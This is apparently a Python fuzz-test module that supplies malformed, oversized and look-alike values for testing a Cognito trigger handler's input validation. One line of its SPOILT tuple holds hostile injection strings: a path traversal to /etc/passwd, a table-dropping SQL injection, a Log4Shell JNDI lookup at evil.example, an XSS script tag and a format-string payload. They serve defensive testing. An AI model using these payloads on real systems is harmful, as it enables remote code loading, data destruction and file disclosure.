"""Values of every kind that does not belong where it stands, or is more than it seems to be."""

import json
import math
from collections.abc import Callable
from dataclasses import dataclass

from hypothesis import strategies as st

from gatehouse.runtime.cognito import MetadataKey
from tests.conformance.contract import sources
from tests.fuzz.look_alikes import addresses, respelled, tokens
from tests.fuzz.world import BROUGHT, CLIENTS, EVERY_TENANT, MAPPINGS, SUBS

# The longest string of ClientMetadata that Cognito's API takes (API reference, "ClientMetadata").
LONGEST = 131_072
DEEP = 1_000


@dataclass(frozen=True)
class Named:
    """A value that is shown by its name, and made anew each time."""

    name: str
    make: Callable[[], object]


DROPPED = Named("DROPPED", dict)


def nested_lists() -> object:
    """Return lists in lists."""
    node: object = []
    for _ in range(DEEP):
        node = [node]
    return node


def nested_objects() -> object:
    """Return objects in objects."""
    node: object = "bottom"
    for _ in range(DEEP):
        node = {"providerName": node, "email": "deep"}
    return node


# What stands for any value, of a type or a size that is not expected there.
SPOILT: tuple[object, ...] = (
    DROPPED,
    *(
        None, True, False, 0, 1, -1, 1.5, 2**63, 10**400, math.inf, "", " ", "0", "true", "True", "null", "None",
        "[]", "{}", [], {}, [None], [[]], [{}], {"": ""}, {"a": None}, ["ana@acme.com"], {"S": "ana@acme.com"},
        "\0", "\x1b[31m", "\r\n", "\N{KELVIN SIGN}", "\N{ZERO WIDTH SPACE}", "\N{RIGHT-TO-LEFT OVERRIDE}", "\ud800",
        "\udfff\ud800", "\U0001f511", "../../etc/passwd", "'; DROP TABLE core; --", "${jndi:ldap://evil.example/a}",
        "{####}", "{username}", "<script>alert(1)</script>", "__proto__", "constructor", "%s%n", "{0.__class__}",
    ),
    Named("NAN", lambda: math.nan),
    Named("LONG", lambda: "x" * LONGEST),
    Named("LONG_WIDE", lambda: "\U0001f511" * LONGEST),
    Named("LONG_SURROGATES", lambda: "\ud800" * LONGEST),
    Named("LONG_DIGITS", lambda: "9" * LONGEST),
    Named("LONG_LIST", lambda: ["ana@acme.com"] * 5_000),
    Named("LONG_OBJECT", lambda: {f"key{number}": "x" for number in range(5_000)}),
    Named("NESTED_LISTS", nested_lists),
    Named("NESTED_OBJECTS", nested_objects),
)  # fmt: skip

_KNOWN = tuple(spelling for one in sources() for spelling in (one.name, *one.also))
_PREFIXES = tuple(dict.fromkeys(source.partition("_")[0] for source in _KNOWN))
_SOURCES = (
    *_KNOWN, *(f"{one}_FromTheFuture" for one in _PREFIXES), *_PREFIXES, "presignup_signup",
    "PRESIGNUP_EXTERNALPROVIDER", " PreSignUp_SignUp", "PreSignUp_SignUp ", "_", "",
)  # fmt: skip
_VERSIONS = (
    "1", "2", "3", 1, 2, 3, 1.0, 2.0, "1.0", "V1_0", "V2_0", " 1", "01", "", 0, -1, True, "\N{SUPERSCRIPT ONE}",
)  # fmt: skip
_PROVIDERS = (
    *dict.fromkeys(one.provider for one in MAPPINGS), "Unmapped", "acme_oidc", "Acme_Oidc ", "Acme", "Cognito", "",
    "Acme_Oidc\ud800", "IDP#Wide", "x" * 33,
)  # fmt: skip
_YES = ("true", "True", "TRUE", "false", "tr\N{LATIN SMALL LETTER U WITH DIAERESIS}e", "1", "yes", True, 1)
_STATUSES = ("CONFIRMED", "UNCONFIRMED", "EXTERNAL_PROVIDER", "external_provider", "FORCE_CHANGE_PASSWORD", "ARCHIVED")
_NO_TENANT_IDS = ("ACME", "acme ", " acme", "acme.", "acme\n", "-acme", "acme-", "acme#1", "TENANT#acme", "*", "a" * 64)
_CLIENT_IDS = (*(one.id for one in CLIENTS), "unknown0client", "CLIENT_ID_NOT_APPLICABLE", "", "#", "x" * 129)
_USER_NAMES = ("Wide_8", "Wide", "_", "", "ana")
_NOT_IDENTITIES = (
    "", "[]", "{}", "null", "[null]", "[[]]", '"Wide"', "[1e999]", "NaN", "[", "[" * LONGEST, "9" * LONGEST,
    '{"providerName": "Wide"}', '[{"providerName": ["Wide"]}]', '[{"ProviderName": "Wide"}]',
    '[{"providerName": "Wide"}', "[{'providerName': 'Wide'}]",
)  # fmt: skip
_SESSION = (
    ("SRP_A", True), ("PASSWORD_VERIFIER", True), ("PASSWORD_VERIFIER", False), ("CUSTOM_CHALLENGE", True),
    ("CUSTOM_CHALLENGE", False), ("SMS_MFA", True), ("NEW_PASSWORD_REQUIRED", True), ("FROM_THE_FUTURE", True),
)  # fmt: skip
_CODE = "271828"

# Marked, so that one which the log has by chance, out of its own words, is no leak.
_texts = st.text(st.characters(), max_size=12).map("\N{SECTION SIGN}{}".format)
spoilt: st.SearchStrategy[object] = st.sampled_from(SPOILT)
anything: st.SearchStrategy[object] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | _texts,
    lambda inside: st.lists(inside, max_size=3) | st.dictionaries(_texts, inside, max_size=3),
    max_leaves=6,
)
_identity = st.fixed_dictionaries(
    {"providerName": st.sampled_from(_PROVIDERS) | anything},
    optional={"providerType": st.sampled_from(("OIDC", "SAML")), "primary": st.just("true"), "userId": anything},
)
identities: st.SearchStrategy[object] = st.one_of(
    st.lists(_identity, min_size=1, max_size=3).map(json.dumps),
    st.sampled_from(_NOT_IDENTITIES),
    st.lists(_identity, max_size=2),
)
_groups: st.SearchStrategy[object] = st.fixed_dictionaries(
    {},
    optional={
        name: st.sampled_from((None, "editors", "", 7, {}, [], [None])) | st.lists(anything, max_size=3)
        for name in ("groupsToOverride", "iamRolesToOverride", "preferredRole", "fromTheFuture")
    },
)
_sessions = st.lists(
    st.sampled_from(_SESSION).map(lambda one: {"challengeName": one[0], "challengeResult": one[1]})
    | st.fixed_dictionaries({}, optional={"challengeName": anything, "challengeResult": anything}),
    max_size=4,
)
_brought_names = st.sampled_from([one.user_name for one in BROUGHT])
_tenant_ids = st.sampled_from((*EVERY_TENANT, "gone", "nowhere", *_NO_TENANT_IDS))

# What would be read at a place of this name, and might be taken for what it is not.
FITTING: dict[str, st.SearchStrategy[object]] = {
    "triggerSource": st.sampled_from(_SOURCES),
    "version": st.sampled_from(_VERSIONS),
    "clientId": st.sampled_from(_CLIENT_IDS),
    "userName": st.one_of(_brought_names, _brought_names.flatmap(respelled), st.sampled_from(_USER_NAMES)),
    "sub": st.sampled_from(SUBS),
    "email": addresses,
    "phone_number": addresses,
    "email_verified": st.sampled_from(_YES),
    "phone_number_verified": st.sampled_from(_YES),
    "cognito:user_status": st.sampled_from(_STATUSES),
    "identities": identities,
    "providerName": st.sampled_from(_PROVIDERS),
    "mail": addresses,
    "upn": addresses,
    "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress": addresses,
    "urn:oid:0.9.2342.19200300.100.1.3": addresses,
    MetadataKey.INVITATION: tokens,
    MetadataKey.TENANT_ID: _tenant_ids,
    MetadataKey.ACCEPT_TENANT_ID: _tenant_ids,
    "groupConfiguration": _groups,
    "session": _sessions,
    "challengeAnswer": st.sampled_from((_CODE, "", "0", [_CODE])),
    "privateChallengeParameters": st.sampled_from(({"answer": _CODE}, {"code": _CODE}, {"answer": None}, {})),
    "codeParameter": st.sampled_from(("{####}", "{###}", "", "{####}{####}", "{##Click Here##}", _CODE)),
    "usernameParameter": st.sampled_from(("{username}", "None", "", None, "ana@acme.com")),
}
